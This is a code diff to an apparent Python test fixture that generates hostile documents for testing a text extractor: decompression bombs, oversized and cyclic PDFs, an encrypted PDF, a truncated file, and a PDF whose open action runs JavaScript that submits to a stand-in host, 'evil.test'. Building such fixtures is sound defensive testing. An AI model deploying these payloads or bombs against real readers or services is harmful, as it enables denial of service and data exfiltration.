@@ -22,13 +22,19 @@ class Hostile:
 
 def hostile_files() -> Iterator[Hostile]:
     yield Hostile("a PDF stream that unpacks to 1 GB", "stream.pdf", _pdf_bomb(1000), "failed")
-    yield Hostile("30 MB of text operators in 70 KB", "operators.pdf", _text_bomb(), None)
+    operators = Sheet([Text(72, 700, "Start of it")], more=b"BT /F1 9 Tf 72 600 Td (x y) Tj ET\n" * 900_000)
+    yield Hostile("30 MB of text operators in 70 KB", "operators.pdf", pdf([operators]), None)
     yield Hostile("100,000 pages", "pages.pdf", _many_pages(100_000), "too_large")
     yield Hostile("pages in a circle", "circle.pdf", _cyclic(), "no_text")
     wide = Sheet([Text(72, 700, "Words on a wide page")], size=(2_000_000.0, 800.0))
     yield Hostile("a page 2,000,000 points wide", "wide.pdf", pdf([wide]), None)
-    yield Hostile("a PDF with a password", "locked.pdf", _locked(), "encrypted")
-    yield Hostile("a PDF with a script that runs when it opens", "script.pdf", _script(), None)
+    key = "<" + "5a" * 32 + ">"
+    trailer = f"/Encrypt << /Filter /Standard /V 1 /R 2 /O {key} /U {key} /P -4 >> /ID [<00> <00>]"
+    locked = pdf([Sheet([Text(72, 700, "Locked words")])], trailer=trailer)
+    yield Hostile("a PDF with a password", "locked.pdf", locked, "encrypted")
+    action = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.test'\\)) >>"
+    script = pdf([Sheet([Text(72, 700, "Words beside a script")])], catalog=action)
+    yield Hostile("a PDF with a script that runs when it opens", "script.pdf", script, None)
     yield Hostile("half a PDF", "half.pdf", pdf([Sheet([Text(72, 700, "Whole")])])[:400], "failed")
     words = docx(paragraph("All the same words again.") * 900_000)
     yield Hostile("a Word document that unpacks to 300 times its size", "bomb.docx", words, "too_large")
@@ -72,10 +78,6 @@ def _pdf_bomb(megabytes: int) -> bytes:
     return _with_content(b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed + b"\nendstream")
 
 
-def _text_bomb() -> bytes:
-    return pdf([Sheet([Text(72, 700, "Start of it")], more=b"BT /F1 9 Tf 72 600 Td (x y) Tj ET\n" * 900_000)])
-
-
 def _with_content(stream: bytes) -> bytes:
     page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 5 0 R >>"
     tree = b"<< /Type /Pages /Count 1 /Kids [4 0 R] >>"
@@ -92,21 +94,6 @@ def _cyclic() -> bytes:
     tree = b"<< /Type /Pages /Count 3 /Kids [4 0 R] >>"
     inner = b"<< /Type /Pages /Parent 2 0 R /Count 3 /Kids [2 0 R] >>"
     return assemble({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: tree, 3: b"<< >>", 4: inner})
-
-
-def _locked() -> bytes:
-    key = "<" + "5a" * 32 + ">"
-    return pdf(
-        [Sheet([Text(72, 700, "Locked words")])],
-        trailer=f"/Encrypt << /Filter /Standard /V 1 /R 2 /O {key} /U {key} /P -4 >> /ID [<00> <00>]",
-    )
-
-
-def _script() -> bytes:
-    return pdf(
-        [Sheet([Text(72, 700, "Words beside a script")])],
-        catalog="/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\('http://evil.test'\\)) >>",
-    )
 
 
 def packed(entries: Mapping[str, str | bytes]) -> bytes:
